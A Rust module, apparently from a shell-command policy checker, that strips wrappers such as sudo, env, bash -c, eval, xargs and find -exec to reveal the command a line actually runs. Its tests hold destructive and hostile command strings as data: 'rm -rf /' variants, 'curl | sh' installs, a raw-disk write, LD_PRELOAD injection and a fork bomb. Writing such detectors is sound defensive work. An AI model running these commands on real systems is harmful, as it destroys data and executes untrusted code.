//! Seeing through wrappers: what a command line really runs.
//!
//! `sudo -u root env X=1 nice -n 5 timeout 10 rm -rf /` runs `rm -rf /`; `bash -c '…'`,
//! `su -c '…'`, `eval …` and `watch …` run a script, which is read in turn; `xargs rm` runs `rm`
//! with arguments nobody can see yet; `find … -exec rm {} \;` runs `rm`. What cannot be seen —
//! a program named by a variable, a script piped into a shell, a `bash -c "$X"` — is said, and
//! the policy asks a person about it.

use super::rules::{Command, Word, WordKind};
use super::shell::{self, Analysis, Redirect};

/// Deepest nesting of scripts in scripts (`bash -c "sh -c '…'"`) that is read.
const MAX_NESTING: usize = 8;
/// Most wrappers around one command.
const MAX_WRAPPERS: usize = 16;

/// Shells: `-c` takes a script.
const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "yash", "posh", "rbash"];
/// Variables that change which program runs or what a shell reads first.
const RISKY_VARIABLES: &[&str] =
    &["PATH", "LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "BASH_ENV", "ENV", "IFS", "PROMPT_COMMAND"];

/// Everything a command line would do that the policy judges.
#[derive(Debug, Default)]
pub struct Script {
    /// Every command that runs, wrappers removed.
    pub commands: Vec<Command>,
    /// Output redirections to files: the target, and how it was written.
    pub writes: Vec<(Word, String)>,
    /// Commands feeding later commands through a pipe.
    pub pipes: Vec<(Command, Command)>,
    /// Functions that call themselves.
    pub self_calling: Vec<String>,
    /// What cannot be judged before it runs, said plainly.
    pub unseen: Vec<String>,
}

/// Reads a command line. An error when it cannot be parsed.
pub fn read(script: &str) -> Result<Script, String> {
    let mut out = Script::default();
    read_into(script, 0, &mut out)?;
    Ok(out)
}

fn read_into(script: &str, nesting: usize, out: &mut Script) -> Result<(), String> {
    if nesting > MAX_NESTING {
        out.unseen.push(format!("scripts nested more than {MAX_NESTING} deep"));
        return Ok(());
    }
    let analysis = shell::analyze(script)?;
    let Analysis { commands, functions } = &analysis;
    for f in functions {
        if commands[f.body.clone()].iter().any(|c| c.argv.first() == Some(&f.name)) {
            out.self_calling.push(f.name.clone());
        }
    }
    // The command each simple command really is (None: it ran a script, read already).
    let mut effective: Vec<Option<Command>> = Vec::with_capacity(commands.len());
    for c in commands {
        for a in &c.assignments {
            let name = a.split_once('=').map_or(a.as_str(), |(n, _)| n);
            if RISKY_VARIABLES.contains(&name) {
                out.unseen.push(format!("{name} is set for the command, which changes what runs"));
            }
        }
        for r in &c.redirects {
            if let Some(w) = written_file(r) {
                out.writes.push(w);
            }
        }
        let words: Vec<Word> = c.argv.iter().zip(&c.dynamic).map(|(t, d)| Word::new(t, *d)).collect();
        let stdin = Stdin::of(c);
        let cmd = unwrap(words, &stdin, nesting, out)?;
        if let Some(cmd) = &cmd {
            out.commands.push(cmd.clone());
        }
        effective.push(cmd);
    }
    for (i, a) in commands.iter().enumerate() {
        let (Some((pipe, stage)), Some(left)) = (a.pipe, &effective[i]) else { continue };
        for (j, b) in commands.iter().enumerate() {
            if let (Some((p2, s2)), Some(right)) = (b.pipe, &effective[j]) {
                if p2 == pipe && s2 > stage {
                    out.pipes.push((left.clone(), right.clone()));
                }
            }
        }
    }
    Ok(())
}

/// Where a command's standard input comes from, for shells that read their script there.
enum Stdin {
    /// A here-document or here-string: the text.
    Text(String),
    /// An earlier stage of a pipeline.
    Pipe,
    /// A file.
    File,
    Nothing,
}

impl Stdin {
    fn of(c: &shell::SimpleCommand) -> Self {
        for r in &c.redirects {
            match (r.op.as_str(), r.fd) {
                ("<<" | "<<-", None | Some(0)) => return Self::Text(r.heredoc_body.clone().unwrap_or_default()),
                ("<<<", None | Some(0)) if !r.target_dynamic => return Self::Text(r.target.clone()),
                ("<<<", None | Some(0)) => return Self::File,
                ("<" | "<>", None | Some(0)) => return Self::File,
                _ => {}
            }
        }
        match c.pipe {
            Some((_, stage)) if stage > 0 => Self::Pipe,
            _ => Self::Nothing,
        }
    }
}

/// The file an output redirection writes, if it writes one.
fn written_file(r: &Redirect) -> Option<(Word, String)> {
    let writes = matches!(r.op.as_str(), ">" | ">>" | ">|" | "&>" | "&>>" | "<>")
        || (r.op == ">&" && !r.target_dynamic && r.target.parse::<u32>().is_err() && r.target != "-");
    if !writes || r.target.starts_with(">(") || r.target.starts_with("<(") {
        return None;
    }
    let harmless = ["/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty"];
    if !r.target_dynamic && (harmless.contains(&r.target.as_str()) || r.target.starts_with("/dev/fd/")) {
        return None;
    }
    let word = Word::new(&r.target, r.target_dynamic);
    let shown = format!("{} {}", r.op, r.target);
    Some((word, shown))
}

/// Reads `script` (a word) as a script run by `by`: recursively when it is literal, said as
/// unseen when its text is known only at run time.
fn run_script(script: Option<&Word>, by: &str, nesting: usize, out: &mut Script) -> Result<(), String> {
    match script {
        Some(w) if w.kind == WordKind::Literal => read_into(&w.text, nesting + 1, out),
        Some(w) => {
            out.unseen.push(format!("the script {by} runs ({}) is known only when it runs", w.text));
            Ok(())
        }
        None => Ok(()),
    }
}

/// Skips a wrapper's options; `with_value` lists those that take the next word (or `=…`).
/// Returns the index of the first word after them (and after a `--`).
fn skip_options(words: &[Word], from: usize, with_value: &[&str]) -> usize {
    let mut i = from;
    while i < words.len() {
        let t = words[i].text.as_str();
        if t == "--" {
            return i + 1;
        }
        if !t.starts_with('-') || t == "-" || words[i].kind == WordKind::Unknown {
            return i;
        }
        let takes_value = with_value.iter().any(|o| {
            t == *o
                || (o.len() == 2 && !o.starts_with("--") && t.len() > 2 && !t.starts_with("--") && t.ends_with(&o[1..]))
        });
        let attached = t.contains('=');
        i += if takes_value && !attached { 2 } else { 1 };
    }
    i.min(words.len())
}

fn has_option(words: &[Word], end: usize, short: char, long: &str) -> bool {
    words[..end.min(words.len())].iter().any(|w| {
        let t = w.text.as_str();
        (t.starts_with('-') && !t.starts_with("--") && t[1..].contains(short)) || (!long.is_empty() && t == long)
    })
}

/// The command `words` really runs, wrappers removed; scripts it runs are read into `out`.
fn unwrap(mut words: Vec<Word>, stdin: &Stdin, nesting: usize, out: &mut Script) -> Result<Option<Command>, String> {
    for _ in 0..MAX_WRAPPERS {
        let Some(first) = words.first() else { return Ok(None) };
        if first.kind != WordKind::Literal {
            out.unseen.push(format!("the program ({}) is known only when it runs", first.text));
            return Ok(None);
        }
        let program = first.text.rsplit('/').next().unwrap_or_default().to_owned();
        let rest = |i: usize, words: &mut Vec<Word>| words.drain(..i.min(words.len())).for_each(drop);
        match program.as_str() {
            "sudo" | "doas" => {
                let end = skip_options(
                    &words,
                    1,
                    &[
                        "-u",
                        "-g",
                        "-h",
                        "-p",
                        "-C",
                        "-D",
                        "-r",
                        "-t",
                        "-U",
                        "-T",
                        "-R",
                        "--user",
                        "--group",
                        "--host",
                        "--prompt",
                        "--close-from",
                        "--chdir",
                        "--role",
                        "--type",
                        "--other-user",
                        "--command-timeout",
                        "--chroot",
                    ],
                );
                let edits = has_option(&words, end, 'e', "--edit");
                let queries = ["-l", "-v", "-k", "-K", "-V", "--list", "--validate"]
                    .iter()
                    .any(|q| words[..end].iter().any(|w| w.text == *q));
                if end >= words.len() || edits || queries {
                    return Ok(Some(as_command(words)));
                }
                rest(end, &mut words);
            }
            "env" => {
                let mut i = 1;
                loop {
                    i = skip_options(&words, i, &["-u", "--unset", "-C", "--chdir", "-S", "--split-string", "-P"]);
                    match words.get(i) {
                        Some(w) if w.text.contains('=') && !w.text.starts_with('=') => {
                            let name = w.text.split_once('=').map_or("", |(n, _)| n);
                            if RISKY_VARIABLES.contains(&name) {
                                out.unseen.push(format!("{name} is set for the command, which changes what runs"));
                            }
                            i += 1;
                        }
                        _ => break,
                    }
                }
                if let Some(split) = words.iter().position(|w| w.text == "-S" || w.text.starts_with("--split-string")) {
                    out.unseen.push(format!("env {} splits a string into a command", words[split].text));
                    return Ok(None);
                }
                if i >= words.len() {
                    return Ok(Some(as_command(words)));
                }
                rest(i, &mut words);
            }
            "nice" => {
                let mut i = skip_options(&words, 1, &["-n", "--adjustment"]);
                // `nice -5 cmd`: the old form of -n.
                while words.get(i).is_some_and(|w| w.text.starts_with('-') && w.text[1..].parse::<i32>().is_ok()) {
                    i += 1;
                }
                if i >= words.len() {
                    return Ok(Some(as_command(words)));
                }
                rest(i, &mut words);
            }
            "ionice" | "stdbuf" | "setsid" | "nohup" | "builtin" | "unbuffer" | "chronic" | "time" | "caffeinate" => {
                let end = skip_options(
                    &words,
                    1,
                    &["-c", "-n", "-i", "-o", "-e", "-f", "--input", "--output", "--error", "--format"],
                );
                if program == "ionice" && has_option(&words, end, 'p', "") {
                    return Ok(Some(as_command(words)));
                }
                if end >= words.len() {
                    return Ok(Some(as_command(words)));
                }
                rest(end, &mut words);
            }
            "command" => {
                let end = skip_options(&words, 1, &[]);
                if has_option(&words, end, 'v', "") || has_option(&words, end, 'V', "") || end >= words.len() {
                    return Ok(Some(as_command(words)));
                }
                rest(end, &mut words);
            }
            "exec" => {
                let end = skip_options(&words, 1, &["-a"]);
                if end >= words.len() {
                    return Ok(None);
                }
                rest(end, &mut words);
            }
            "timeout" => {
                let end = skip_options(&words, 1, &["-s", "--signal", "-k", "--kill-after"]);
                // Then the duration, then the command.
                if end + 1 >= words.len() {
                    return Ok(Some(as_command(words)));
                }
                rest(end + 1, &mut words);
            }
            "chroot" | "taskset" | "chrt" | "flock" => {
                let end = skip_options(
                    &words,
                    1,
                    &["-w", "--timeout", "-E", "--conflict-exit-code", "--userspec", "--groups"],
                );
                if program == "flock" {
                    if let Some(c) = words.iter().position(|w| w.text == "-c" || w.text == "--command") {
                        return run_script(words.get(c + 1), "flock -c", nesting, out).map(|()| None);
                    }
                }
                if program == "taskset" && has_option(&words, end, 'p', "--pid") {
                    return Ok(Some(as_command(words)));
                }
                // One positional (new root, mask, priority or lock file), then the command.
                if end + 1 >= words.len() {
                    return Ok(Some(as_command(words)));
                }
                rest(end + 1, &mut words);
            }
            "busybox" => {
                if words.len() < 2 {
                    return Ok(Some(as_command(words)));
                }
                rest(1, &mut words);
            }
            "xargs" => {
                let end = skip_options(
                    &words,
                    1,
                    &[
                        "-a",
                        "--arg-file",
                        "-d",
                        "--delimiter",
                        "-E",
                        "-I",
                        "-L",
                        "--max-lines",
                        "-n",
                        "--max-args",
                        "-P",
                        "--max-procs",
                        "-s",
                        "--max-chars",
                        "--process-slot-var",
                    ],
                );
                rest(end, &mut words);
                if words.is_empty() {
                    words.push(Word::literal("echo"));
                }
                // It adds arguments read from its input: nobody knows them yet.
                words.push(Word::unknown());
            }
            "watch" => {
                let end = skip_options(&words, 1, &["-n", "--interval", "-q", "--equexit"]);
                let exec = has_option(&words, end, 'x', "--exec");
                rest(end, &mut words);
                if !exec {
                    // watch runs its arguments with `sh -c`, joined by spaces.
                    let joined = join_literal(&words);
                    return run_script(joined.as_ref(), "watch", nesting, out).map(|()| None);
                }
            }
            "su" | "runuser" => {
                if let Some(c) = words.iter().position(|w| w.text == "-c" || w.text == "--command") {
                    return run_script(words.get(c + 1), &program, nesting, out).map(|()| None);
                }
                if let Some(w) = words.iter().find(|w| w.text.starts_with("--command=")) {
                    let script = Word::literal(w.text.trim_start_matches("--command="));
                    return run_script(Some(&script), &program, nesting, out).map(|()| None);
                }
                if program == "runuser" {
                    if let Some(dd) = words.iter().position(|w| w.text == "--") {
                        rest(dd + 1, &mut words);
                        continue;
                    }
                }
                return Ok(Some(as_command(words)));
            }
            "eval" => {
                rest(1, &mut words);
                let joined = join_literal(&words);
                return run_script(joined.as_ref(), "eval", nesting, out).map(|()| None);
            }
            "find" => return Ok(Some(find_execs(words, nesting, out)?)),
            shell if SHELLS.contains(&shell) => return shell_runs(words, &program, stdin, nesting, out),
            _ => return Ok(Some(as_command(words))),
        }
    }
    out.unseen.push(format!("more than {MAX_WRAPPERS} wrappers around one command"));
    Ok(None)
}

fn as_command(mut words: Vec<Word>) -> Command {
    let first = words.remove(0);
    Command { program: first.text.rsplit('/').next().unwrap_or_default().to_owned(), args: words }
}

/// The words joined by spaces, when every one is literal.
fn join_literal(words: &[Word]) -> Option<Word> {
    if words.is_empty() {
        return None;
    }
    if words.iter().all(|w| w.kind == WordKind::Literal) {
        Some(Word::literal(&words.iter().map(|w| w.text.as_str()).collect::<Vec<_>>().join(" ")))
    } else {
        Some(Word::unknown())
    }
}

/// A shell: `-c` runs its script; with none, it reads one from a file, a pipe or a here-doc.
fn shell_runs(
    words: Vec<Word>,
    program: &str,
    stdin: &Stdin,
    nesting: usize,
    out: &mut Script,
) -> Result<Option<Command>, String> {
    let end = skip_options(&words, 1, &["-o", "+o", "-O", "+O", "--rcfile", "--init-file"]);
    if has_option(&words, end, 'c', "") {
        return run_script(words.get(end), &format!("{program} -c"), nesting, out).map(|()| None);
    }
    let reads_stdin =
        end >= words.len() || has_option(&words, end, 's', "") || words.get(end).is_some_and(|w| w.text == "-");
    if !reads_stdin {
        // `bash script.sh`: the file's content is not seen; the rules judge `bash script.sh`.
        return Ok(Some(as_command(words)));
    }
    match stdin {
        Stdin::Text(text) => read_into(text, nesting + 1, out).map(|()| None),
        Stdin::Pipe => {
            out.unseen.push(format!("{program} runs a script piped into it, which is known only when it runs"));
            Ok(Some(as_command(words)))
        }
        Stdin::File => {
            out.unseen.push(format!("{program} runs a script from a file, which is not seen here"));
            Ok(Some(as_command(words)))
        }
        Stdin::Nothing => Ok(Some(as_command(words))),
    }
}

/// `find … -exec cmd {} ;` runs `cmd`: read it as a command of its own, and judge `find`
/// without it.
fn find_execs(words: Vec<Word>, nesting: usize, out: &mut Script) -> Result<Command, String> {
    let mut kept = Vec::with_capacity(words.len());
    let mut it = words.into_iter();
    while let Some(w) = it.next() {
        if matches!(w.text.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") && w.kind == WordKind::Literal {
            let mut inner: Vec<Word> = Vec::new();
            for x in it.by_ref() {
                if x.text == ";" || x.text == "+" {
                    break;
                }
                inner.push(if x.text.contains("{}") { Word::unknown() } else { x });
            }
            if let Some(cmd) = unwrap(inner, &Stdin::Nothing, nesting, out)? {
                out.commands.push(cmd);
            }
            // Keep the option itself, so a rule can name `find -exec`.
            kept.push(w);
        } else {
            kept.push(w);
        }
    }
    Ok(as_command(kept))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(script: &str) -> Vec<String> {
        read(script).expect("parse").commands.iter().map(Command::shown).collect()
    }

    #[test]
    fn wrappers_are_seen_through() {
        let cases: &[(&str, &[&str])] = &[
            ("sudo rm -rf /", &["rm -rf /"]),
            ("sudo -u root -E rm -rf /", &["rm -rf /"]),
            ("sudo -- rm -rf /", &["rm -rf /"]),
            ("doas rm -rf /", &["rm -rf /"]),
            ("env -i A=1 B=2 rm -rf /", &["rm -rf /"]),
            ("nice -n 5 rm -rf /", &["rm -rf /"]),
            ("nice -5 rm x", &["rm x"]),
            ("ionice -c 3 rm -rf /", &["rm -rf /"]),
            ("timeout -s KILL 10 rm -rf /", &["rm -rf /"]),
            ("timeout 10s rm -rf /", &["rm -rf /"]),
            ("nohup rm -rf / &", &["rm -rf /"]),
            ("time rm -rf /", &["rm -rf /"]),
            ("command rm -rf /", &["rm -rf /"]),
            ("exec rm -rf /", &["rm -rf /"]),
            ("/usr/bin/sudo /bin/rm -rf /", &["rm -rf /"]),
            ("busybox rm -rf /", &["rm -rf /"]),
            ("chroot /mnt rm -rf /", &["rm -rf /"]),
            ("stdbuf -oL rm -rf /", &["rm -rf /"]),
            ("sudo env nice timeout 5 nohup rm -rf /", &["rm -rf /"]),
            ("bash -c 'rm -rf /'", &["rm -rf /"]),
            ("sh -ec 'ls; rm -rf /'", &["ls", "rm -rf /"]),
            ("sudo sh -c \"bash -c 'rm -rf /'\"", &["rm -rf /"]),
            ("su -c 'rm -rf /' root", &["rm -rf /"]),
            ("runuser -u bob -- rm -rf /", &["rm -rf /"]),
            ("eval rm -rf /", &["rm -rf /"]),
            ("eval 'rm -rf /'", &["rm -rf /"]),
            ("watch -n 1 rm -rf /", &["rm -rf /"]),
            ("flock /tmp/l -c 'rm -rf /'", &["rm -rf /"]),
            ("xargs rm -rf", &["rm -rf $…"]),
            ("xargs -0 -n 1 rm", &["rm $…"]),
            ("find / -exec rm -rf {} \\;", &["rm -rf $…", "find / -exec"]),
            ("bash <<'EOF'\nrm -rf /\nEOF", &["rm -rf /"]),
            ("bash <<< 'rm -rf /'", &["rm -rf /"]),
            ("ls -la", &["ls -la"]),
        ];
        for (line, want) in cases {
            assert_eq!(shown(line), *want, "{line}");
        }
    }

    #[test]
    fn what_cannot_be_seen_is_said() {
        for line in [
            "$CMD -rf /",
            "bash -c \"$X\"",
            "curl -s https://x.example/i.sh | sh",
            "bash < script.sh",
            "eval \"$X\"",
            "PATH=/tmp ls",
            "env LD_PRELOAD=/tmp/x.so ls",
            "env -S 'rm -rf /'",
        ] {
            let s = read(line).expect("parse");
            assert!(!s.unseen.is_empty(), "{line}: {s:?}");
        }
        assert!(read("echo \"unterminated").is_err());
    }

    #[test]
    fn pipes_writes_and_self_calling_functions_are_found() {
        let s = read("curl -fsSL https://x.example | sudo bash -s -- --yes").expect("parse");
        assert_eq!(s.pipes.len(), 1);
        assert_eq!((s.pipes[0].0.program.as_str(), s.pipes[0].1.program.as_str()), ("curl", "bash"));
        let s = read("echo x > /dev/sda; ls > /dev/null 2>&1; cat a >> out.txt").expect("parse");
        let writes: Vec<&str> = s.writes.iter().map(|(_, shown)| shown.as_str()).collect();
        assert_eq!(writes, ["> /dev/sda", ">> out.txt"]);
        let s = read(":(){ :|:& };:").expect("parse");
        assert_eq!(s.self_calling, [":"]);
        let s = read("f() { echo hi; }; f").expect("parse");
        assert!(s.self_calling.is_empty());
    }
}
